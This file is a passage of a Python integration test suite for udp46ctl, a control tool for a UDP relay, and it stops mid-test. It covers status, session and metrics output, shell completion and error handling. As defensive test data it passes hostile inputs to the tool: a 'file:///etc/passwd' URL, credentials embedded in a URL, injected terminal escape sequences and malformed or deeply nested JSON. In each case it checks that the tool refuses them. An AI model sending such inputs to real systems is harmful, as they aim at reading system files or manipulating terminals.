#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""udp46ctl against the real relay with real traffic, against servers that mean it harm, and on terminals.

Runs as root in a network and a mount namespace of its own, as tests/world/test_daemon.py, whose helpers it uses.
UDP46_BINARY is the relay, UDP46CTL_BINARY the program under test (by default its neighbour). Exit status 77: not allowed
here.
"""

import contextlib
import fcntl
import json
import os
import pathlib
import pty
import re
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import termios
import threading
import time
import unittest

TOP = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(TOP / 'tests' / 'world'))
import test_daemon as world  # noqa: E402

CTL = os.environ.get('UDP46CTL_BINARY') or os.path.join(os.path.dirname(os.path.abspath(world.BINARY)), 'udp46ctl')
STEPS = ['socket', 'configuration', 'service', 'http', 'listening', 'arriving', 'allowed', 'resolved', 'reachable',
         'replies', 'limits', 'kept']
NOWHERE = '2001:db8:ffff::1'  # no route leads there


def skip(reason):
    """A skipped test, or a failed one where CI=true promises a machine that can."""
    if os.environ.get('CI') == 'true':
        raise RuntimeError(f'CI=true, but {reason}')
    raise unittest.SkipTest(reason)


class Server:
    """Somebody on a Unix socket who answers each connection with `answer(connection, request)`."""

    def __init__(self, path, answer):
        self.path, self.answer, self.requests = path, answer, []
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(path)
        self.sock.listen(16)
        self.ended = threading.Event()
        self.sock.settimeout(0.1)
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.ended.is_set():
            with contextlib.suppress(OSError):
                connection, _ = self.sock.accept()
                connection.settimeout(5)
                with connection:
                    request = connection.recv(65536)
                    self.requests.append(request.split(b' ')[1].decode())
                    self.answer(self, connection)

    def close(self):
        self.ended.set()
        self.thread.join()
        self.sock.close()


def http(body, status='200 OK', headers=''):
    if isinstance(body, str):
        body = body.encode()
    head = f'HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n{headers}Connection: close\r\n\r\n'
    return lambda server, connection: connection.sendall(head.encode() + body)


class Screen:
    """udp46ctl on a terminal of its own."""

    def __init__(self, argv, env, columns=80, rows=24):
        self.master, slave = pty.openpty()
        self.resize(columns, rows)
        self.text = b''

        def take():
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)
        self.slave = slave
        self.before = termios.tcgetattr(slave)
        self.process = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, env=env, start_new_session=True,
                                        preexec_fn=take)

    def resize(self, columns, rows):
        fcntl.ioctl(self.master, termios.TIOCSWINSZ, struct.pack('HHHH', rows, columns, 0, 0))

    def read(self, seconds=0.0):
        """All that has come; waits for more for so long."""
        while select.select([self.master], [], [], seconds)[0]:
            try:
                more = os.read(self.master, 65536)
            except OSError:
                break
            if not more:
                break
            self.text += more
        return self.text.decode(errors='replace')

    def until(self, condition, what, timeout=5.0):
        end = time.monotonic() + timeout
        while not condition(self.read(0.05)):
            if time.monotonic() > end:
                raise AssertionError(f'{what}: {self.text[-3000:]!r}')

    def key(self, key):
        os.write(self.master, key.encode())

    def frames(self):
        """What was drawn, frame by frame, as lines without escapes"""
        parts = self.read().split('\033[H')[1:]
        return [[re.sub(r'\033\[[0-9;?]*[a-zA-Z]', '', line) for line in part.replace('\r', '').split('\n')]
                for part in parts if '\033[J' in part]

    def wait(self, timeout=5.0):
        end = time.monotonic() + timeout
        while self.process.poll() is None and time.monotonic() < end:
            self.read(0.05)
        self.read(0.05)
        return self.process.wait(0.1)

    def close(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        os.close(self.master)
        os.close(self.slave)


class CtlTest(world.TestCase):
    def setUp(self):
        super().setUp()
        os.chmod(self.directory, 0o755)
        self.socket = os.path.join(self.directory, 'http.sock')
        self.bin = os.path.join(self.directory, 'bin')
        os.mkdir(self.bin)
        self.env = {k: v for k, v in os.environ.items()
                    if k not in ('NO_COLOR', 'PAGER', 'SYSTEMD_PAGER', 'SYSTEMD_COLORS', 'LESS', 'SYSTEMD_LESS', 'http_proxy')}
        self.env.update(TERM='xterm', LC_ALL='C.UTF-8', PATH=f'{self.bin}:{os.environ["PATH"]}')

    # The program

    def ctl(self, *arguments, status=0, timeout=20, where=True, prefix=(), program=CTL, **env):
        """Runs it and checks its exit status. What it printed is text."""
        place = [f'--socket={self.socket}'] if where else []
        done = subprocess.run([*prefix, program, *place, *arguments], env={**self.env, **env}, stdin=subprocess.DEVNULL,
                              capture_output=True, timeout=timeout, check=False)
        out, err = done.stdout.decode(errors='backslashreplace'), done.stderr.decode(errors='backslashreplace')
        self.assertEqual(done.returncode, status, out[-2000:] + err[-2000:])
        return out, err

    def out(self, *arguments, **kwargs):
        """What it says, without a word of complaint"""
        out, err = self.ctl(*arguments, **kwargs)
        self.assertEqual(err, '')
        return out

    def complaint(self, *arguments, status=1, **kwargs):
        """One line, and nothing on standard output"""
        out, err = self.ctl(*arguments, status=status, **kwargs)
        self.assertEqual(out, '')
        self.assertRegex(err, r'\Audp46ctl: [^\n]+\n\Z')
        return err

    def screen(self, *arguments, columns=80, rows=24, **env):
        screen = Screen([CTL, f'--socket={self.socket}', *arguments], {**self.env, **env}, columns, rows)
        self.addCleanup(screen.close)
        return screen

    def script(self, name, text):
        path = os.path.join(self.bin, name)
        with open(path, 'w', encoding='utf-8') as file:
            file.write('#!/bin/sh\n' + text)
        os.chmod(path, 0o755)

    # Whom it asks

    def serve(self, answer):
        server = Server(self.socket, answer)
        self.addCleanup(server.close)
        return server

    def begin(self, upstream, *arguments, n=1, config=''):
        """A relay with an HTTP socket and n listeners, whose ports are returned."""
        listening = socket.socket(socket.AF_UNIX)
        self.addCleanup(listening.close)
        listening.bind(self.socket)
        listening.listen(64)
        socks = [self.udp() for _ in range(n)]
        names = ':'.join(['relay', 'office', 'third'][:n] + ['http'])
        if upstream:
            arguments = ('--upstream', upstream if isinstance(upstream, str) else upstream.name, *arguments)
        self.daemon = self.start(*arguments, config=config, fds=[*socks, listening], names=names)
        self.daemon.wait_line('<6>starting udp46 ')
        return [sock.getsockname()[1] for sock in socks]

    def clients(self, port, *sizes):
        """A client for each number, which has that many datagrams of 100 bytes answered."""
        clients = []
        for n in sizes:
            client = self.client(port)
            for _ in range(n):
                self.ask(client, b'x' * 100)
            clients.append(client)
        return clients

    @staticmethod
    def name(client):
        return '{}:{}'.format(*client.getsockname())

    def dump(self, *arguments):
        head, *lines = self.out('dump', *arguments).splitlines()
        return [dict(zip(head[1:].split('\t'), line.split('\t'))) for line in lines]


class Commands(CtlTest):
    """Every command, and that its numbers are those of the traffic"""

    def setUp(self):
        super().setUp()
        self.home = self.upstream(answer=lambda data: data)
        self.ports = self.begin(self.home, n=2, config='[Relay office]\nMaxSessions=9\nMaxUnrepliedSessions=4\n')

    def test_status(self):
        self.clients(self.ports[0], 3, 2)
        text = self.out('status')
        self.assertRegex(text.splitlines()[0],
                         rf'^● udp46 0.2.0 - Waiting: on office, for the first datagram from a client to {re.escape(self.home.name)}$')
        self.assertIn('    Sessions: 2 (0 of 10587 unreplied, peak 2, limit 14116)', text)
        self.assertIn(f'    Upstream: {self.home.name}\n', text)
        self.assertIn(f'    Listener: 127.0.0.1:{self.ports[0]}\n     Forward: 5 datagrams, 500 B, 0 dropped\n'
                      '       Reply: 5 datagrams, 500 B, 0 dropped\n', text)
        self.assertRegex(text, rf'\n● relay - Yes: {re.escape(self.home.name)} answered [^\n]+\n')
        self.assertIn('\n● office - Waiting: for the first datagram', text)
        self.assertIn('    Sessions: 0 (0 of 4 unreplied, peak 0, limit 9)', text)
        self.assertIn('  Last reply: none yet', text)
        self.assertEqual(self.out().splitlines()[2:5], text.splitlines()[2:5], 'status is what it does without a command')
        self.assertTrue(self.out(LC_ALL='C').startswith('* udp46'))

    def test_status_json(self):
        self.clients(self.ports[1], 4)
        short, pretty = self.out('--json=short', 'status'), self.out('status', '--json=pretty')
        self.assertEqual(short.count('\n'), 1)
        self.assertGreater(pretty.count('\n'), 20)
        for text in short, pretty:
            status = json.loads(text)
            self.assertEqual(status['sessions'], 1)
            office = next(part for part in status['listeners'] if part['name'] == 'office')
            self.assertEqual((office['client_to_upstream']['datagrams'], office['client_to_upstream']['bytes']), (4, 400))

    def test_status_of_a_relay_that_drops(self):
        client = self.client(self.ports[0])
        self.daemon.kill()
        os.unlink(self.socket)
        self.ports = self.begin(self.home, '--read-buffer-size', '50')
        client = self.client(self.ports[0])
        client.send(b'x' * 51)
        self.ask(client)
        self.assertIn('1 dropped (oversize 1)', self.out('status'))

    def test_status_says_what_the_page_says(self):
        """One verdict, its words and its colour"""
        def head():
            health = json.loads(self.out('--json=short'))['health']
            line = self.out('status', '--color=always').splitlines()[0]
            self.assertIn(f' - {health["word"]}: ', line)
            return health['word'], line.split('●')[0]
        self.home.answer = lambda data: data if data == b'ask' else None
        office, = self.clients(self.ports[1], 0)
        self.ask(office)
        self.assertEqual(head(), ('Waiting', ''))
        client = self.client(self.ports[0])
        client.send(b'silent')
        world.wait_until(lambda: head() == ('No answer yet', '\033[0;1;33m'))
        self.ask(client)
        self.assertEqual(head(), ('Yes', '\033[0;1;32m'))
        self.daemon.kill()
        os.unlink(self.socket)
        self.begin('nowhere.example:51820')
        self.assertTrue(self.ctl('status', '--color=always', status=3)[0].startswith('\033[0;1;31m●'))

    def test_a_failed_reload(self):
        """It is there until a reload succeeds."""
        good = f'[Relay]\nUpstream={self.home.name}\n[Relay office]\n'
        self.assertNotIn('Reload', self.out('status'))
        self.write_config(good.encode() + b'Foo=\xff\xfe\nBar=1\n')
        self.daemon.signal(signal.SIGHUP)
        self.daemon.wait_line('reload failed', n=2)
        self.assertRegex(self.out('status'), r'\n {6}Reload: failed, the configuration before stays: \S+:4: Foo=\?\?: '
                                             r'unknown key; \S+:5: Bar=1: unknown key\n')
        self.assertIn('\033[0;1;33mfailed', self.out('status', '--color=always'))
        self.assertIn('udp46_config_last_reload_successful 0\n', self.out('metrics'))
        self.write_config(good)
        self.daemon.signal(signal.SIGHUP)
        self.daemon.wait_line('configuration reloaded')
        self.assertNotIn('Reload', self.out('status'))
        self.assertIsNone(json.loads(self.out('--json=short'))['reload_error'])
        self.assertIn('udp46_config_last_reload_successful 1\n', self.out('metrics'))

    def test_what_was_taken_over(self):
        """Of the process before, if there was one"""
        self.assertNotIn('Taken over', self.out('status'))
        self.daemon.kill()
        os.unlink(self.socket)
        status = {'names': [{'upstream_address': '[::1]:1'}], 'listeners': [{}]}
        for restored, text in (({'sessions': 1000, 'lost': 0, 'gap_seconds': 0.1754}, '1000 sessions, 0 lost, gap 175ms'),
                               ({'sessions': 1, 'lost': 7, 'gap_seconds': 2.5}, '1 session, 7 lost, gap 2s')):
            with self.subTest(text):
                server = self.serve(http(json.dumps({**status, 'restored': restored})))
                said = self.out('status')
                self.assertIn(f'\n  Taken over: {text}\n', said)
                self.assertIn('\n  Last reply: none since the restart\n', said)
                server.close()
                os.unlink(self.socket)

    def test_one_and_several(self):
        self.clients(self.ports[0], 1)
        text = self.out('status')
        self.assertIn('Forward: 1 datagram, ', text)
        self.assertIn('Forward: 0 datagrams, ', text)

    def test_status_without_an_address(self):
        self.daemon.kill()
        os.unlink(self.socket)
        self.begin('nowhere.example:51820')
        text, _ = self.ctl('status', status=3)
        self.assertIn('udp46 0.2.0 - No: the address of nowhere.example:51820 is not known: ', text)
        self.assertIn('Upstream: nowhere.example:51820, not resolved', text)
        self.assertIsNone(json.loads(self.ctl('--json=short', status=3)[0])['names'][0]['upstream_address'])

    def test_sessions(self):
        clients = self.clients(self.ports[0], 1, 30) + self.clients(self.ports[1], 2)
        head, *lines, empty, total = self.out('sessions').splitlines()
        self.assertEqual(head.split(), ['CLIENT', 'LISTENER', 'SOURCE', 'UPSTREAM', 'STATE', 'AGE', 'IDLE', 'FORWARD', 'REPLY'])
        self.assertEqual((empty, total), ('', '3 sessions.'))
        rows = {line.split()[0]: line for line in lines}
        self.assertEqual(set(rows), {self.name(client) for client in clients})
        self.assertRegex(rows[self.name(clients[1])],
                         rf' 127.0.0.1:{self.ports[0]} +\[::1\]:\d+ +\[::1\]:{self.home.port} +assured .*3.0 kB +3.0 kB$')
        self.assertRegex(rows[self.name(clients[2])], rf' 127.0.0.1:{self.ports[1]} .* 200 B +200 B$')
        bare = self.out('sessions', '--no-legend').splitlines()
        self.assertEqual(sorted(line.split()[0] for line in bare), sorted(rows))

    def test_no_sessions(self):
        self.assertEqual(self.out('sessions').splitlines()[-1], '0 sessions.')
        self.assertEqual(self.out('sessions', f'--listener=127.0.0.1:{self.ports[0]}').splitlines()[-1], '0 sessions.')
        for command in 'sessions', 'dump', 'top':
            self.assertIn('no listener has this address. See `udp46ctl status`', self.complaint(command, '--listener=127.0.0.1:9'))
        self.assertEqual(json.loads(self.out('sessions', '--json=short')), [])
        self.assertEqual(json.loads(self.out('sessions', '--json=pretty')), [])
        self.assertEqual(self.dump(), [])

    def test_sessions_json(self):
        clients = self.clients(self.ports[0], 1, 3)
        short, pretty = self.out('sessions', '--json=short'), self.out('sessions', '--json=pretty')
        self.assertEqual(short.count('\n'), 1)
        self.assertEqual(json.loads(short), json.loads(pretty))
        served = {f'{s["client_address"]}:{s["client_port"]}': s for s in json.loads(short)}
        self.assertEqual(set(served), {self.name(client) for client in clients})
        session = served[self.name(clients[1])]
        self.assertEqual((session['client_to_upstream_packets'], session['upstream_to_client_bytes']), (3, 300))
        self.assertEqual(len(session), 16, 'every key that the relay serves')

    def test_filters(self):
        a, b = self.clients(self.ports[0], 1, 1)
        c, = self.clients(self.ports[1], 1)
        other = self.client(self.ports[0], '127.0.0.9')
        self.ask(other)

        def found(*arguments):
            return {row['client'] for row in self.dump(*arguments)}
        self.assertEqual(found(), {self.name(each) for each in (a, b, c, other)})
        self.assertEqual(found(f'--client={self.name(b)}'), {self.name(b)})
        self.assertEqual(found('--client', '127.0.0.9'), {self.name(other)})
        self.assertEqual(found('--client=127.0.0.1'), {self.name(each) for each in (a, b, c)})
        self.assertEqual(found('--client=192.0.2.1'), set())
        self.assertEqual(found(f'--listener=127.0.0.1:{self.ports[1]}'), {self.name(c)})
        self.assertEqual(found(f'--listener=127.0.0.1:{self.ports[1]}', '--client=127.0.0.9'), set())
        self.assertEqual([len(found(f'--limit={n}')) for n in (0, 1, 3, 99)], [0, 1, 3, 4])
        self.assertEqual(len(json.loads(self.out('sessions', '--json=short', '--limit=2', '--client=127.0.0.1'))), 2)
        for arguments, text in ((['--limit=1'], '1 of 4 sessions.'), (['--limit=9'], '4 sessions.'),
                                (['--limit=0', f'--client={self.name(b)}'], '0 of 1 session.'),
                                (['--limit=2', '--client=127.0.0.1', '--sort=age'], '2 of 3 sessions.')):
            self.assertEqual(self.out('sessions', *arguments).splitlines()[-1], text)

    def test_sort(self):
        clients = self.clients(self.ports[0], 2, 5, 1)
        time.sleep(0.01)
        self.ask(clients[0])
        a, b, c = map(self.name, clients)

        def order(*arguments):
            return [row['client'] for row in self.dump(*arguments)]
        self.assertEqual(order('--sort=bytes'), [b, a, c])
        self.assertEqual(order('--sort=age'), [a, b, c])
        self.assertEqual(order('--sort=idle'), [b, c, a])
        self.assertEqual(order('--sort=client'), sorted((a, b, c), key=lambda name: int(name.split(':')[1])))
        self.assertEqual(order('--sort=bytes', '--limit=1'), [b], 'the limit is for what was sorted')
        self.assertEqual(order('--sort=age', '--limit=1'), [a])
        self.assertEqual(order('--sort=idle', '--limit=2'), [b, c])
        lines = self.out('sessions', '--sort=bytes', '--no-legend').splitlines()
        self.assertEqual([line.split()[0] for line in lines], [b, a, c])

    def test_clients_in_numeric_order(self):
        for address in '127.0.0.10', '127.0.0.9', '127.0.1.1':
            self.ask(self.client(self.ports[0], address))
        self.assertEqual([row['client'].split(':')[0] for row in self.dump('--sort=client')],
                         ['127.0.0.9', '127.0.0.10', '127.0.1.1'])

    def test_dump(self):
        before = time.time()
        client, = self.clients(self.ports[0], 7)
        row, = self.dump()
        page = (TOP / 'docs' / 'udp46ctl.1').read_text()
        documented = re.findall(r'^\.TP\n\.B (\w+)$', page.split('.SS Columns of dump')[1].split('.S')[0], flags=re.M)
        self.assertEqual(list(row), documented)
        self.assertEqual(row['client'], self.name(client))
        self.assertEqual(row['listener'], f'127.0.0.1:{self.ports[0]}')
        self.assertEqual(row['source'], f'[::1]:{self.home.leg_of(b"x" * 100)}')
        self.assertEqual(row['upstream'], self.home.name)
        self.assertEqual((row['session_id'], row['state']), ('0000000000000001', 'assured'))
        self.assertEqual([row[f'{way}_{what}'] for way in ('forward', 'reply') for what in ('datagrams', 'bytes')],
                         ['7', '700', '7', '700'])
        for key in 'created', 'last_client', 'last_upstream':
            self.assertRegex(row[key], r'^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$')
        self.assertLess(abs(time.mktime(time.strptime(row['created'][:19], '%Y-%m-%dT%H:%M:%S')) - time.timezone - before), 5)
        self.assertEqual(len(self.out('dump', '--no-legend').splitlines()), 1)

    def test_dump_of_what_never_happened(self):
        self.home.answer = lambda data: None
        self.client(self.ports[0]).send(b'ask')
        row, = world.wait_until(self.dump)
        self.assertEqual((row['state'], row['last_upstream'], row['reply_bytes']), ('unreplied', '-', '0'))

    def test_metrics(self):
        self.clients(self.ports[0], 3)
        text = self.out('metrics')
        self.assertIn('\nudp46_sessions_active 1\n', text)
        self.assertIn(f'udp46_datagrams_total{{listener="127.0.0.1:{self.ports[0]}",direction="client_to_upstream"}} 3', text)

    def test_over_tcp(self):
        port = world.next_port()
        self.daemon.kill()
        os.unlink(self.socket)
        self.begin(self.home, '--metrics.enabled', '--metrics.listen', f'127.0.0.1:{port}')
        for url in f'http://127.0.0.1:{port}', f'http://localhost:{port}/':
            self.assertIn('udp46 0.2.0 - Waiting: ', self.out(f'--url={url}', where=False))
        self.assertIn('udp46 0.2.0 - Waiting: ', self.out('--url', url, where=False, http_proxy='http://127.0.0.1:1'))
        steps = json.loads(self.ctl('check', '--json=short', f'--url={url}', where=False)[0])['steps']
        self.assertEqual([step['fact'] for step in steps[:3]], ['another host is asked (--url=)'] * 3)
        err = self.complaint(f'--url=http://127.0.0.1:{world.next_port()}', where=False)
        self.assertIn('Connection refused', err)
        self.assertIn('--metrics.enabled', err)
        silent = socket.socket()
        self.addCleanup(silent.close)
        silent.bind(('127.0.0.1', 0))
        silent.listen(1)
        err = self.complaint('--url=http://127.0.0.1:{}'.format(silent.getsockname()[1]), where=False)
        self.assertIn('no answer in time. See that no firewall in between', err)

    def test_many_sessions(self):
        for i in range(700):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.bind((f'127.0.0.{2 + i // 100}', 30000 + i))
                sock.settimeout(5)
                sock.sendto(b'x', ('127.0.0.1', self.ports[0]))
                sock.recv(10)
        rows = self.dump('--sort=client')
        self.assertEqual([row['client'] for row in rows], [f'127.0.0.{2 + i // 100}:{30000 + i}' for i in range(700)])
        self.assertEqual(len(json.loads(self.out('sessions', '--json=short'))), 700)


class CommandLine(CtlTest):
    def test_help_and_version(self):
        for flag in '--help', '-h':
            self.assertIn('Usage: udp46ctl', self.out(flag))
        self.assertRegex(self.out('--version'), r'^udp46ctl version=\S+ commit=\S+ date=\S+\n$')

    def test_mistakes(self):
        for arguments, text in ((['nonsense'], 'nonsense: unknown command'), (['--nonsense'], '--nonsense: unknown option'),
                                (['-x'], '-x: unknown option'), (['--help=1'], '--help=1: takes no value'),
                                (['status', 'dump'], 'dump: only one command'), (['--limit'], '--limit: needs a value'),
                                (['dump', '--limit=-1'], '--limit=-1: must be a number'),
                                (['dump', '--limit='], 'must be a number'),
                                (['dump', '--sort=size'], '--sort=size: must be one of bytes|age|idle|client'),
                                (['dump', '--sort=byt'], 'must be one of'), (['--json=long'], 'must be one of short|pretty'),
                                (['--color=x'], 'must be one of auto|always|never'),
                                (['dump', '--client=::1'], 'must be an address'),
                                (['dump', '--client=1.2.3'], 'must be an address'),
                                (['dump', '--listener=127.0.0.1'], '--listener=127.0.0.1: '),
                                (['top', '--interval=0'], 'must be a time'), (['top', '--interval=x'], 'must be a time'),
                                (['--no-pager', '--no-pager'], '--no-pager: given twice'),
                                (['status', '--sort=age'], '--sort: not for the command status'),
                                (['dump', '--json=short'], '--json: not for the command dump'),
                                (['--url=http://127.0.0.1:1'], 'not together with --socket')):
            with self.subTest(arguments):
                self.assertIn(text, self.complaint(*arguments, status=2))
        for url, text in (('https://127.0.0.1:1', 'that is none'), ('file:///etc/passwd', 'that is none'),
                          ('http://', 'there is no host'), ('http://:9108', 'there is no host'),
                          ('http://[]:9108', 'there is no host'), ('http://[::1:9108', 'there is no host'),
                          ('http://a', 'the port is missing'), ('http://a/?b', 'the port is missing'),
                          ('http://192.0.2.1/', 'the port is missing'), ('http://[::1]', 'the port is missing'),
                          ('http://a:', 'from 1 to 65535'), ('http://a:0', 'from 1 to 65535'),
                          ('http://a:65536', 'from 1 to 65535'), ('http://a:123456', 'from 1 to 65535'),
                          ('http://a:1/metrics', 'nothing may follow'), ('http://a:1?b', 'nothing may follow'),
                          ('http://a:1b', 'nothing may follow')):
            with self.subTest(url):
                self.assertRegex(self.complaint(f'--url={url}', where=False, status=2),
                                 f': must be like http://192.0.2.1:9108: .*{text}')
        err = self.complaint('--url=http://me:secret@127.0.0.1:1', where=False, status=2)
        self.assertIn('without a user and a password', err)
        self.assertNotIn('secret', err)
        self.assertIn('1 to 107 bytes', self.complaint('--socket=/' + 'x' * 107, where=False, status=2))
        self.assertIn(r'non\x1b[31msense', self.complaint('non\033[31msense', status=2))

    def complete(self, *words):
        """What bash offers for the last word"""
        done = subprocess.run(['bash', '-c', '''compopt() { :; }; source "$1"; shift; COMP_WORDS=(udp46ctl "$@"); COMP_CWORD=$#
            _udp46ctl udp46ctl "${COMP_WORDS[-1]}" "${COMP_WORDS[-2]}"; printf '%s\\n' "${COMPREPLY[@]}"''', 'bash',
                               str(TOP / 'units' / 'udp46ctl.bash'), *words], capture_output=True, text=True, check=True)
        self.assertEqual(done.stderr, '')
        return done.stdout.split()

    def test_completion(self):
        self.assertEqual(self.complete('st'), ['status'])
        self.assertEqual(self.complete('un'), ['undrain'])
        self.assertEqual(self.complete('--no-'), ['--no-pager', '--no-legend'])
        self.assertEqual(self.complete('check', '-h'), ['-h'])
        self.assertEqual(self.complete('sessions', 'du'), [], 'one command is enough')
        self.assertEqual(self.complete('sessions', '--js'), ['--json='])
        self.assertEqual(self.complete('--json', '=', 'p'), ['pretty'])
        self.assertEqual(self.complete('--sort', '='), ['bytes', 'age', 'idle', 'client'])
        self.assertEqual(self.complete('--color', 'n'), ['never'])
        self.assertEqual(self.complete('--limit', '='), [])
        self.assertIn(str(TOP / 'units'), self.complete('--socket', '=', str(TOP / 'uni')))
        shown = set(re.findall(r'^  ([a-z-]+=?)', self.out('--help').replace('--url=http', '--url='), flags=re.M)) | {'-h'}
        self.assertEqual(set(self.complete('')), shown)

    def test_completion_of_a_command(self):
        """Those options that it takes, whatever stands before and behind it"""
        values = {'--client': '127.0.0.1', '--listener': '127.0.0.1:1', '--limit': '1', '--sort': 'age', '--interval': '1s',
                  '--json': 'short', '--color': 'never', '--url': 'http://127.0.0.1:1', '--socket': '/nowhere'}
        everything = [word for word in self.complete('') if word.startswith('-')]
        for command in 'status', 'sessions', 'dump', 'top', 'metrics', 'check', 'drain', 'undrain':
            taken = [word for word in everything if 'not for the command' not in subprocess.run(
                [CTL, command, word + values[word[:-1]] if word.endswith('=') else word], capture_output=True, text=True,
                check=False, env=self.env).stderr]
            self.assertEqual(set(self.complete(command, '-')), set(taken), command)
            self.assertEqual(set(self.complete('--no-pager', command, '--color', '=', 'never', '-')), set(taken), command)

    def test_output_that_cannot_be_written(self):
        with open('/dev/full', 'w') as full:
            done = subprocess.run([CTL, '--help'], stdout=full, stderr=subprocess.PIPE, text=True, check=False)
        self.assertEqual((done.returncode, done.stderr), (1, 'udp46ctl: standard output: No space left on device\n'))

    def test_a_long_answer_that_cannot_be_written(self):
        self.serve(http('# a line of a long answer\n' * 10000))
        with open('/dev/full', 'w') as full:
            done = subprocess.run([CTL, f'--socket={self.socket}', 'metrics'], stdout=full, stderr=subprocess.PIPE, text=True,
                                  check=False)
        self.assertEqual((done.returncode, done.stderr), (1, 'udp46ctl: standard output: No space left on device\n'))

    def test_no_standard_output(self):
        """Nor does anything that is opened take its place."""
        self.begin(self.upstream())
        for arguments in ['--help'], ['--version'], ['status'], ['sessions'], ['dump'], ['top'], ['metrics'], ['check']:
            with self.subTest(arguments):
                done = subprocess.run(['sh', '-c', 'exec "$@" >&-', 'sh', CTL, f'--socket={self.socket}', *arguments],
                                      stderr=subprocess.PIPE, text=True, check=False, timeout=20, env=self.env)
                self.assertEqual((done.returncode, done.stderr), (1, 'udp46ctl: standard output: Bad file descriptor\n'))
        done = subprocess.run(['sh', '-c', 'exec "$@" <&- 2>&-', 'sh', CTL, f'--socket={self.socket}'], capture_output=True,
                              text=True, check=False, timeout=20, env=self.env)
        self.assertEqual(done.returncode, 0)
        self.assertIn('Sessions: 0', done.stdout)


class Errors(CtlTest):
    """Nobody there, or somebody else"""

    def test_no_socket(self):
        err = self.complaint()
        for word in self.socket, 'no such socket', '--socket=':
            self.assertIn(word, err)
        self.assertNotIn('systemctl', err, 'that ends sessions')

    def test_no_socket_of_the_relay(self):
        """Only for this one it is worth a restart, and only where there is systemd."""
        err = self.complaint(where=False)
        for word in '/run/udp46/http.sock', '--metrics.enabled', '--url=http://127.0.0.1:9108':
            self.assertIn(word, err)
        self.assertNotIn('systemctl', err)
        os.makedirs('/run/systemd/system')
        self.addCleanup(shutil.rmtree, '/run/systemd')
        self.assertIn('`systemctl enable udp46-http.socket && systemctl restart udp46.socket`; that ends', self.complaint(where=False))
        os.mkdir('/run/udp46')
        self.addCleanup(shutil.rmtree, '/run/udp46')
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind('/run/udp46/http.sock')
        self.assertIn('Open it again with `systemctl restart udp46.socket`', self.complaint(where=False))

    def test_not_a_socket(self):
        pathlib.Path(self.socket).touch()
        self.assertIn('not a socket', self.complaint())

    def test_nobody_listens(self):
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(self.socket)
        sock.close()
        err = self.complaint()
        self.assertIn('connection refused', err)
        self.assertNotIn('systemctl', err)

    def test_permission(self):
        self.begin(self.upstream())
        os.chmod(self.socket, 0o660)
        copy = shutil.copy(CTL, self.bin)  # where others may run it
        err = self.complaint(prefix=('setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'), program=copy)
        self.assertIn('permission denied', err)
        self.assertIn('group udp46', err)

    def test_silence(self):
        """Accepts, and says nothing"""
        server = self.serve(lambda server, connection: server.ended.wait(20))
        before = time.monotonic()
        self.assertIn('no answer in time', self.complaint())
        self.assertLess(time.monotonic() - before, 12)
        server.ended.set()

    def test_trickle(self):
        """Silence in the middle"""
        def answer(server, connection):
            connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n[{}')
            server.ended.wait(20)
        server = self.serve(answer)
        before = time.monotonic()
        self.assertIn('no answer in time', self.complaint('dump', '--no-legend'))
        self.assertLess(time.monotonic() - before, 12)
        server.ended.set()

    def test_never_accepted(self):
        sock = socket.socket(socket.AF_UNIX)
        self.addCleanup(sock.close)
        sock.bind(self.socket)
        sock.listen(1)
        before = time.monotonic()
        self.assertIn('no answer in time', self.complaint())
        self.assertLess(time.monotonic() - before, 12)

    def test_closed(self):
        self.serve(lambda server, connection: None)
        self.assertIn('closed without an answer', self.complaint())

    def test_statuses(self):
        answers = iter([http('no \033[31mway\r\nsecond line', '403 Forbidden'), http('', '500 Oh'), http('x' * 10**6, '404 No')])
        self.serve(lambda server, connection: next(answers)(server, connection))
        err = self.complaint()
        self.assertIn(r'HTTP status 403: no \x1b[31mway', err)
        self.assertIn('HttpHosts=', err)
        self.assertIn('HTTP status 500', self.complaint())
        self.assertLess(len(self.complaint()), 400)

    def test_redirections_are_not_followed(self):
        server = self.serve(http('', '302 Found', 'Location: http://localhost/other\r\n'))
        self.assertIn('HTTP status 302', self.complaint())
        self.assertEqual(server.requests, ['/debug/status'])

    def test_no_http(self):
        self.serve(lambda server, connection: connection.sendall(b'SSH-2.0-hello\r\n'))
        self.assertIn('not HTTP', self.complaint())


class Hostile(CtlTest):
    """A server that sends what a relay never would"""

    def refused(self, body, *commands, text='JSON'):
        if os.path.exists(self.socket):
            os.unlink(self.socket)
        server = Server(self.socket, http(body))
        try:
            for command in commands or ('status', 'sessions', 'dump', 'top'):
                with self.subTest(command=command, body=body[:60]):
                    self.assertIn(text, self.complaint(command))
        finally:
            server.close()

    def test_garbage(self):
        for body in ('', 'nonsense', '\0\0\0', '"text"', '{', '[', '[{]', '[{}', '[,{}]', '[{},]', '[{} {}]', '[{}]x', '[1]',
                     '[{"a": "\\u0000"}]', '[{"a": "' + '\\"' * 10 + '}]', '[{"a": 1e999}]', '[{"a": 99999999999999999999}]',
                     b'[{"a": "\xff"}]', '[' * 100000, '[{"a":' + '[' * 5000):
            self.refused(body, 'sessions', 'dump')
        for body in '', 'nonsense', '{"listeners": [', '{"names": 1e999}', '{"a": ' + '[' * 100000, b'{"a": "\xff"}':
            self.refused(body, 'status', 'top')
        for body in '{}', '[]', '1', '{"listeners": 1, "names": []}', '{"listeners": [], "names": null}':
            self.refused(body, 'status', text='not the status of udp46' if body != '1' else 'JSON')

    def test_cut_off(self):
        """Whole by its form, but less than was announced"""
        def answer(server, connection):
            connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n[]')
        self.serve(answer)
        self.assertIn('cut off', self.complaint('sessions'))

    def test_chunks_without_an_end(self):
        def answer(server, connection):
